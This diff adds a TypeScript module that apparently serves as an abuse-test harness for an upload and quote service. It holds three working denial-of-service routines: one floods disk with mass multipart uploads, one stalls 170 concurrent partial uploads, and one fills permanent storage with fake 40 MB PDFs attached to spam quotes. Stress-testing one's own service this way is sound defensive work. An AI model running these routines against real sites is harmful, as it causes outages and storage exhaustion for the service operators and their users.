@@ -1,0 +1,104 @@
+import { randomBytes } from 'node:crypto'
+import { setTimeout as pause } from 'node:timers/promises'
+import { publicKeyOf, type Statuses, stranger } from './stranger.ts'
+
+const mebibyte = 1024 * 1024
+const selection = 40 * mebibyte
+
+type Attack = Readonly<{
+  signal: AbortSignal
+  /** Where it comes from; more than one are used in turn. */
+  addresses?: readonly string[]
+}>
+
+const oneAddress = ['198.51.100.1']
+
+/** C1: promises more than the disk has, as a new guest each time, and sends all of it at once. */
+export async function fillDisk(site: string, { signal, addresses = oneAddress }: Attack): Promise<Statuses> {
+  const { statuses, open, put } = stranger(site, { key: await publicKeyOf(site), signal })
+  const bytes = randomBytes(5 * mebibyte)
+  for (let round = 0; !signal.aborted; round += 1) {
+    const opened = await Promise.all(
+      Array.from({ length: 40 }, async (_, index) => {
+        const address = addresses[(round + index) % addresses.length] ?? ''
+        return { address, upload: await open(address, selection) }
+      }),
+    )
+    const parts = opened.flatMap(({ address, upload }) =>
+      (upload?.parts ?? []).map((part) => ({ address, ...part })),
+    )
+    await inLanes(12, parts, ({ address, url, size }) => put(address, url, bytes.subarray(0, size), size))
+    await pause(200)
+  }
+  return statuses
+}
+
+/** C1b: sends most of one part 170 times at once and stands still; each try that is cut off begins again. */
+export async function stallOnePart(
+  site: string,
+  { signal, addresses = oneAddress }: Attack,
+): Promise<Statuses> {
+  const { statuses, open, put } = stranger(site, { key: await publicKeyOf(site), signal })
+  const upload = await open(addresses[0] ?? '', 5 * mebibyte)
+  const part = upload?.parts[0]
+  if (!part) return statuses
+  const most = randomBytes(part.size - mebibyte)
+  const stalled = () =>
+    new ReadableStream<Uint8Array>({
+      start(controller) {
+        controller.enqueue(most)
+      },
+    })
+  await Promise.all(
+    Array.from({ length: 170 }, async (_, index) => {
+      while (!signal.aborted) {
+        await put(addresses[index % addresses.length] ?? '', part.url, stalled(), part.size)
+        await pause(200)
+      }
+    }),
+  )
+  return statuses
+}
+
+/** C1c: sends quote after quote with 40 MB of files each, which stay when they are stored. */
+export async function fillForGood(
+  site: string,
+  { signal, addresses = oneAddress }: Attack,
+): Promise<Statuses> {
+  const { statuses, open, put, complete, quote } = stranger(site, { key: await publicKeyOf(site), signal })
+  // A PDF is kept as it is.
+  const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(selection - 9)])
+  for (let sent = 0; !signal.aborted; sent += 1) {
+    const address = addresses[sent % addresses.length] ?? ''
+    const upload = await open(address, bytes.length)
+    if (!upload) {
+      await pause(200)
+      continue
+    }
+    let start = 0
+    for (const { url, size } of upload.parts) {
+      await put(address, url, bytes.subarray(start, start + size), size)
+      start += size
+    }
+    const completed = await complete(address, upload)
+    if (completed.status !== 200) continue
+    // Our own server's answer.
+    const { key } = JSON.parse(completed.text) as { key: string }
+    await quote(address, upload.cookie, [key], `Filler ${sent}`)
+  }
+  return statuses
+}
+
+/** Does the work for each of them, so many at a time. */
+async function inLanes<Item>(
+  lanes: number,
+  items: readonly Item[],
+  work: (item: Item) => Promise<unknown>,
+): Promise<void> {
+  const left = items.values()
+  await Promise.all(
+    Array.from({ length: lanes }, async () => {
+      for (const item of left) await work(item)
+    }),
+  )
+}
